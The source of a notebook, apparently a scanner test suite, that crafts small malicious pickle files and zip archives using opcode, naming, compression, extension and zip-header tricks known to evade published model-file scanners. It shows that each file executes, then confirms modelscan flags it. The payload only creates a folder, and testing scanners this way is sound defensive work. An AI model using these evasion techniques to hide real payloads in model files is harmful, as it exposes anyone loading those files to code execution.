# ruff: noqa: E402 - a notebook imports where it needs something
# The source of bypasses.ipynb; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # A gallery of ways around scanners
#
# Each file here is a few bytes, made on the spot, and does one thing: it creates the folder `marker`. Each has passed at
# least one published scanner. First every one is loaded in a process of its own, to show that it is live; then all are
# scanned.

# %%
import gzip
import io
import os
import pickle
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)

# %% [markdown]
# ## The opcodes
#
# `c` imports, `(`…`t` makes a tuple, `R` calls, `.` ends. `CALL` is `os.mkdir("marker")`.


# %%
def text(value):
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def framed(body):
    return b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body


CALL = b"cos\nmkdir\n(" + text("marker") + b"tR"
plain = b"\x80\x04" + CALL + b"."

# %% tags=["gallery"]
samples = {
    "another name of the module (posix)": b"\x80\x04cposix\nmkdir\n(" + text("marker") + b"tR.",
    "an attribute of a harmless module": b"\x80\x04"
    + text("pathlib")
    + text("os.mkdir")
    + b"\x93("
    + text("marker")
    + b"tR.",
    "INST in place of REDUCE": b"(" + text("marker") + b"ios\nmkdir\n.",
    "OBJ, its result thrown away": b"(cos\nmkdir\n" + text("marker") + b"o0N.",
    "names put together through the memo": b"\x80\x04"
    + text("mkdir")
    + b"\x940"
    + text("os")
    + b"h\x00\x93("
    + text("marker")
    + b"tR.",
    "a name spelled with escapes": b"Vos\nV\\u006dkdir\n\x93(" + text("marker") + b"tR.",
    "the payload, then a broken stream": b"\x80\x04" + CALL + b"\xff",
    "the payload, then no end": b"\x80\x04" + CALL,
    "a number that only C can read": b"I0x10\n0" + CALL + b".",
    "behind a first, harmless pickle": pickle.dumps({"weights": [1, 2]}) + plain,
    "an argument that runs over its frame": b"\x80\x04\x95" + struct.pack("<Q", 2) + CALL + b".",
    "gzip under another name": gzip.compress(plain),
    "zlib, as joblib writes it": zlib.compress(plain),
    "the extension of an image": plain,
}
for number, data in enumerate(samples.values()):
    Path(f"{number}.png").write_bytes(data)
print(len(samples), "files of", sum(map(len, samples.values())), "bytes")

# %% [markdown]
# ## They are live
#
# Loaded one by one with nothing between, each in a child process that reads all pickles of a file until one breaks.

# %% tags=["live"]
child = """
import gzip, io, os, pickle, zlib
for path in sorted(os.listdir(), key=lambda name: int(name.split('.')[0])):
    file = open(path, 'rb')
    head = file.peek(2)
    if head[:2] == b'\\x1f\\x8b':
        file = io.BytesIO(gzip.decompress(file.read()))
    elif head[:1] == b'x':
        file = io.BytesIO(zlib.decompress(file.read()))
    try:
        pickle.load(file), pickle.load(file)
    except Exception:
        pass
    print(os.path.isdir('marker'), end=' ')
    if os.path.isdir('marker'):
        os.rmdir('marker')
"""
done = subprocess.run([sys.executable, "-c", child], capture_output=True, text=True, check=True)
ran = done.stdout.split()
print(ran.count("True"), "of", len(samples), "ran")

# %% [markdown]
# ## And they are found

# %% tags=["found"]
import modelscan

for number, name in enumerate(samples):
    report = modelscan.scan(f"{number}.png")
    worst = report.findings[0]
    print(f"{report.verdict:13} {worst.severity!s:9} {worst.operator[:20]:20} {name}")
print("payload ran:", Path("marker").exists())

# %% [markdown]
# ## In an archive
#
# Zip archives have two descriptions of every member, and programs differ in which one they believe.

# %% tags=["found"]
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    archive.writestr("archive/data.pkl", plain)
whole = bytearray(buffer.getvalue())
central = whole.rindex(b"PK\x01\x02")
tricks = {
    "the encryption bit set in the directory only": (central + 8, 1),
    "a compression method nobody knows": (central + 10, 99),
    "a wrong checksum": (central + 16, 0),
    "another name in the directory": (central + 46, ord("b")),
}
for name, (at, value) in tricks.items():
    changed = bytearray(whole)
    changed[at] = value
    report = modelscan.scan(bytes(changed))
    print(f"{report.verdict:13} refused: {report.refused}  {name}")

# %%
os.chdir(start)
folder.cleanup()
